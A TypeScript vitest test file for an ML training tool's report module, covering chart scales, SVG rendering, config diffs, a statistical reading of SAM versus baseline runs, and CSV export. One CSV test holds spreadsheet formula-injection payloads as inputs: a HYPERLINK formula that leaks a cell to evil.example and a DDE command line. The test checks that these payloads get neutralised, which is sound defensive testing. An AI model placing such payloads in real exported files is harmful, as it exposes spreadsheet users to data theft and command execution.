// The report's pure parts: axis scales, SVG charts, the config diff and the "did SAM help?"
// reading, on plain data (no database).
import { describe, expect, it } from 'vitest';
import { linearScale, logScale, niceStep } from '../../src/main/services/reports/svg/scale';
import { lineChart } from '../../src/main/services/reports/svg/line-chart';
import { heatmap, viridis } from '../../src/main/services/reports/svg/heatmap';
import { configRows } from '../../src/shared/config-diff';
import { readSamEffect } from '../../src/main/services/reports/sam-reading';
import { csvCell, parseCsv } from '../../src/main/services/reports/csv';
import { decimate } from '../../src/main/services/reports/svg/decimate';
import { renderReportHtml } from '../../src/main/services/reports/html';
import { parseRunConfig, type RunConfigInput } from '../../src/shared/config';
import type { RunDetail } from '../../src/shared/api';
import type { ReportRun } from '../../src/main/services/reports/types';

const base: RunConfigInput = {
  epochs: 3,
  batchSize: 64,
  data: { name: 'synthetic-moons', samples: 200 },
  model: { kind: 'mlp', hidden: [16] },
  optimizer: { kind: 'sgd', lr: 0.1 },
};

function fakeRun(id: number, cfg: RunConfigInput, m: { test: number; train: number; lmax?: number }): ReportRun {
  const run = {
    id,
    name: `run ${id}`,
    status: 'done',
    config: parseRunConfig(cfg),
    backend: 'cpu',
    sweepId: null,
    tags: [],
    notes: '',
    createdAt: 0,
    startedAt: 0,
    endedAt: 1000,
    progress: 1,
    etaMs: null,
    failureReason: null,
    finalMetrics: { testAccuracy: m.test, trainAccuracy: m.train, testLoss: 0.5, trainLoss: 0.4 },
    paramCount: 100,
    archived: false,
    phase: null,
    backendReport: null,
    checkpoints: [],
    artifacts: [],
    logs: [],
  } satisfies RunDetail;
  const spectra =
    m.lmax === undefined
      ? []
      : [{ event: 'spectrum' as const, runId: id, epoch: 3, step: 30, topEigenvalues: [m.lmax, 1, 0.5, 0.2, 0.1], lambdaMaxOverLambda5: m.lmax / 0.1, trace: null, traceStdErr: null, density: null, hvp: 'exact' as const, hessianBatchSize: 64, iterations: 10, elapsedMs: 1 }];
  return { run, machine: { os: 'x', cpuModel: 'y', cores: 1, memoryBytes: 1, node: 'v20', source: 'report-machine' }, series: [], spectra, landscapes: [] };
}

describe('scales', () => {
  it('picks 1-2-5 steps and covers the data', () => {
    expect(niceStep(10, 5)).toBe(2);
    expect(niceStep(0.7, 5)).toBeCloseTo(0.2, 12);
    const s = linearScale([0.13, 0.87], [0, 100]);
    expect(s.ticks[0]).toBeLessThanOrEqual(0.13);
    expect(s.ticks.at(-1)).toBeGreaterThanOrEqual(0.87);
    expect(s.map(s.domain[0])).toBe(0);
    expect(s.map(s.domain[1])).toBe(100);
  });

  it('gives a flat or near-flat series a readable axis with distinct labels', () => {
    const s = linearScale([0.05, 0.05 * (1 + 1e-8)], [0, 100]);
    const labels = s.ticks.map(s.format);
    expect(new Set(labels).size).toBe(labels.length);
    expect(s.domain[0]).toBeLessThan(0.05);
  });

  it('puts log ticks on decades', () => {
    const s = logScale([3e-6, 0.4], [100, 0]);
    expect(s.ticks.every((t) => Math.abs(Math.log10(t) - Math.round(Math.log10(t))) < 1e-9)).toBe(true);
    expect(s.map(1e-6)).toBeCloseTo(100, 9);
  });
});

describe('line chart', () => {
  it('breaks the line at non-finite values and drops non-positive values on a log axis', () => {
    const svg = lineChart({ title: 't', xLabel: 'x', yLabel: 'y', series: [{ label: 'a', x: [0, 1, 2, 3, 4], y: [1, 2, NaN, 4, 5], color: '#f00', markers: false }] });
    const d = svg.match(/class="series" d="([^"]+)"/)![1];
    expect(d.match(/M/g)).toHaveLength(2); // two sub-paths around the gap
    expect(d.match(/L/g)).toHaveLength(2);
    const log = lineChart({ title: 't', xLabel: 'x', yLabel: 'y', logY: true, series: [{ label: 'a', x: [0, 1, 2], y: [0, 1e-3, 1], color: '#f00', markers: true, line: false }] });
    expect(log.match(/class="point"/g)).toHaveLength(2);
  });

  it('says so when there is nothing to draw, and escapes labels', () => {
    const svg = lineChart({ title: 'a<b', xLabel: 'x', yLabel: 'y', series: [{ label: '"q"', x: [1], y: [NaN], color: '#f00' }] });
    expect(svg).toContain('no data recorded');
    expect(svg).toContain('a&lt;b');
    expect(svg).toContain('&quot;q&quot;');
    expect(svg).not.toContain('class="series"');
  });
});

describe('heatmap', () => {
  it('draws one cell per grid point and honours a shared colour range', () => {
    const xs = [-1, 0, 1];
    const ys = [-1, 0, 1, 2];
    const values = xs.flatMap((a) => ys.map((b) => a * a + b * b));
    const own = heatmap({ title: 'h', xLabel: 'a', yLabel: 'b', xs, ys, values });
    expect(own.match(/class="cell"/g)).toHaveLength(12);
    const shared = heatmap({ title: 'h', xLabel: 'a', yLabel: 'b', xs, ys, values, colorDomain: [0, 100] });
    // Own range: the largest value (5, at α = ±1, β = 2) gets the top colour; in a shared
    // range 0–100 it sits 5 % up the scale.
    const fills = (s: string) => [...s.matchAll(/class="cell"[^>]*fill="([^"]+)"/g)].map((m) => m[1]);
    const iMax = values.indexOf(5);
    expect(fills(own)[iMax]).toBe(viridis(1));
    expect(fills(shared)[iMax]).toBe(viridis(0.05));
    expect(fills(shared)[values.indexOf(0)]).toBe(viridis(0));
    expect(heatmap({ title: 'h', xLabel: 'a', yLabel: 'b', xs, ys, values: [1, 2] })).toContain('no landscape grid recorded');
  });
});

describe('config diff', () => {
  it('keeps sections in schema order and marks only differing fields', () => {
    const rows = configRows([parseRunConfig(base), parseRunConfig({ ...base, sam: { rho: 0.05 }, optimizer: { kind: 'sgd', lr: 0.2 } })]);
    const diff = rows.filter((r) => r.differs).map((r) => r.field);
    expect(diff).toEqual(['optimizer.lr', 'sam.rho', 'sam.m', 'sam.p', 'sam.adaptive', 'sam.eta', 'sam.variant.kind']);
    const rho = rows.find((r) => r.field === 'sam.rho')!;
    expect(rho.values).toEqual(['off', '0.05']);
    // sam sits between schedule and hessian, as in the schema, not appended at the end.
    const idx = (f: string) => rows.findIndex((r) => r.field === f);
    expect(idx('sam.rho')).toBeGreaterThan(idx('schedule.minFactor'));
    expect(idx('sam.rho')).toBeLessThan(idx('hessian'));
  });
});

describe('did SAM help?', () => {
  it('pairs each SAM run with its closest baseline and reports the differences', () => {
    const sgdA = fakeRun(1, base, { test: 0.8, train: 0.9, lmax: 40 });
    const sgdB = fakeRun(2, { ...base, model: { kind: 'mlp', hidden: [64] } }, { test: 0.85, train: 0.95 });
    const sam = fakeRun(3, { ...base, sam: { rho: 0.05 } }, { test: 0.83, train: 0.86, lmax: 10 });
    const r = readSamEffect([sgdA, sgdB, sam]);
    expect(r.pairs).toHaveLength(1);
    expect(r.pairs[0].baseRunId).toBe(1); // same model as the SAM run, unlike run 2
    expect(r.pairs[0].testAccuracyDiffPp).toBeCloseTo(3, 10);
    expect(r.pairs[0].gapSamPp).toBeCloseTo(3, 10);
    expect(r.pairs[0].gapBasePp).toBeCloseTo(10, 10);
    const text = r.text.join(' ');
    expect(text).toContain('+3.00 pp for SAM');
    expect(text).toContain('0.25×');
    expect(text).toContain('smaller in size for SAM');
  });

  it('says when there is nothing to compare', () => {
    expect(readSamEffect([fakeRun(1, base, { test: 0.8, train: 0.9 })]).text[0]).toContain('no baseline');
    expect(readSamEffect([fakeRun(1, base, { test: 0.8, train: 0.9 }), fakeRun(2, base, { test: 0.7, train: 0.9 })]).text[0]).toContain('None of these runs uses SAM');
    const s = { ...base, sam: { rho: 0.1 } };
    expect(readSamEffect([fakeRun(1, s, { test: 0.8, train: 0.9 }), fakeRun(2, s, { test: 0.7, train: 0.9 })]).text[0]).toContain('Every run here uses SAM');
  });

  it('flags a difference within seed noise', () => {
    const r = readSamEffect([fakeRun(1, base, { test: 0.8, train: 0.9 }), fakeRun(2, { ...base, sam: { rho: 0.05 } }, { test: 0.801, train: 0.9 })]);
    expect(r.text[0]).toContain('smaller than the');
  });

  it('refuses to conclude from single seeds: a 0.99× λ_max is not "a flatter minimum"', () => {
    const r = readSamEffect([fakeRun(1, base, { test: 0.8, train: 0.9, lmax: 10 }), fakeRun(2, { ...base, sam: { rho: 0.05 } }, { test: 0.82, train: 0.9, lmax: 9.9 })]);
    const text = r.text.join(' ');
    expect(text).toContain('0.99×');
    expect(text).not.toContain('flatter minimum');
    expect(text).toContain('not enough to call either minimum flatter');
    expect(text).toContain('cannot be told from seed-to-seed noise, so no conclusion');
    expect(r.pairs[0].enoughSeeds).toBe(false);
  });

  it('groups seeds, labels groups by what differs, and concludes only from a 95 % interval', () => {
    const sam = { ...base, sam: { rho: 0.05 } };
    // SGD 80, 81, 82 %; SAM 84, 85, 86 %: diff 4 pp, sd 1 pp each, se = √(2/3) pp, df 4 → CI 4 ± 2.776·0.8165 pp.
    const runs = [
      fakeRun(1, { ...base, seed: 0 }, { test: 0.8, train: 0.9, lmax: 20 }),
      fakeRun(2, { ...base, seed: 1 }, { test: 0.81, train: 0.9, lmax: 21 }),
      fakeRun(3, { ...base, seed: 2 }, { test: 0.82, train: 0.9, lmax: 22 }),
      fakeRun(4, { ...sam, seed: 0 }, { test: 0.84, train: 0.9, lmax: 10 }),
      fakeRun(5, { ...sam, seed: 1 }, { test: 0.85, train: 0.9, lmax: 11 }),
      fakeRun(6, { ...sam, seed: 2 }, { test: 0.86, train: 0.9, lmax: 12 }),
    ];
    const r = readSamEffect(runs);
    expect(r.pairs).toHaveLength(1);
    expect(r.pairs[0]).toMatchObject({ samRunIds: [4, 5, 6], baseRunIds: [1, 2, 3], enoughSeeds: true });
    expect(r.pairs[0].testAccuracyDiffPp).toBeCloseTo(4, 9);
    expect(r.pairs[0].testAccuracyCiPp![0]).toBeCloseTo(4 - 2.776 * Math.sqrt(2 / 3), 2);
    const text = r.text.join(' ');
    expect(text).toContain('SAM ρ=0.05 · 3 seeds (#4, #5, #6)');
    expect(text).toContain('SAM was better on these seeds with 95 % confidence');
    expect(text).toContain('SAM ended in a flatter minimum by this measure');
    const html = renderReportHtml({ title: 't', createdAt: 0, runs });
    expect(html).toContain('By seed group');
    expect(html).toContain('95 % CI');
  });
});

describe('csv cells', () => {
  it('quotes only when needed and parses back', () => {
    const cells = ['plain', 'a,b', 'say "hi"', 'two\nlines', ''];
    const line = cells.map(csvCell).join(',');
    expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
  });

  it('defuses names a spreadsheet would run as formulas, and still parses them back', () => {
    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', "'=already quoted", "it's fine", '-'];
    const line = cells.map(csvCell).join(',');
    // As a spreadsheet reads each cell (inside its quotes, if any): none starts a formula any more.
    const raw = cells.map(csvCell).map((c) => c.replace(/^"/, ''));
    expect(raw.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
  });
});

describe('decimation', () => {
  it('bounds a long series, keeps its extremes, ends and gaps', () => {
    const n = 100_000;
    const x = Array.from({ length: n }, (_, i) => i);
    const y = x.map((i) => Math.sin(i / 500));
    y[31_337] = 9; // a spike
    y[70_000] = NaN; // a gap
    const d = decimate(x, y, 900);
    expect(d.x.length).toBeLessThanOrEqual(900);
    expect(d.x[0]).toBe(0);
    expect(d.x.at(-1)).toBe(n - 1);
    expect(Math.max(...d.y.filter(Number.isFinite))).toBe(9);
    expect(Math.min(...d.y.filter(Number.isFinite))).toBeCloseTo(-1, 4);
    expect(d.x[d.y.findIndex((v) => Number.isNaN(v))]).toBe(70_000);
    expect([...d.x].sort((a, b) => a - b)).toEqual(d.x);
    const svg = lineChart({ title: 't', xLabel: 'x', yLabel: 'y', series: [{ label: 'a', x, y, color: '#f00' }] });
    expect(svg.length).toBeLessThan(40_000);
    expect(svg.match(/class="series" d="([^"]+)"/)![1].match(/M/g)).toHaveLength(2);
  });
});

describe('report HTML of runs without results', () => {
  it('says what was not recorded instead of drawing empty charts', () => {
    const r = fakeRun(1, base, { test: 0.8, train: 0.9 });
    const html = renderReportHtml({ title: 'Empty', createdAt: 0, runs: [r] });
    expect(html).not.toContain('<svg');
    expect(html).toContain('No metric series were recorded');
    expect(html).toContain('No Hessian spectra were recorded');
    expect(html).toContain('no Hessian analysis recorded');
  });
});

describe('report spectra table', () => {
  it('names how each spectrum was computed and warns under the table for a finite-difference one', () => {
    const exact = fakeRun(1, base, { test: 0.8, train: 0.9, lmax: 12 });
    const fd = fakeRun(2, base, { test: 0.8, train: 0.9, lmax: 30 });
    fd.spectra = fd.spectra.map((s) => ({ ...s, hvp: 'finite-difference' as const, fdStep: 1e-4, hvpReason: 'double backpropagation failed: gradient function not found for LRNGrad' }));
    const html = renderReportHtml({ title: 'Methods', createdAt: 0, runs: [exact, fd] });
    expect(html).toContain('exact (double backprop), batch 64');
    expect(html).toContain('finite differences (step 1e-4·‖w‖) ⚠, batch 64');
    const warnings = html.match(/<p class="note fd-warning">[^]*?<\/p>/g) ?? [];
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/#2: Finite-difference spectrum: .* approximate; .* Why finite differences: double backpropagation failed: gradient function not found for LRNGrad\./);
  });
});
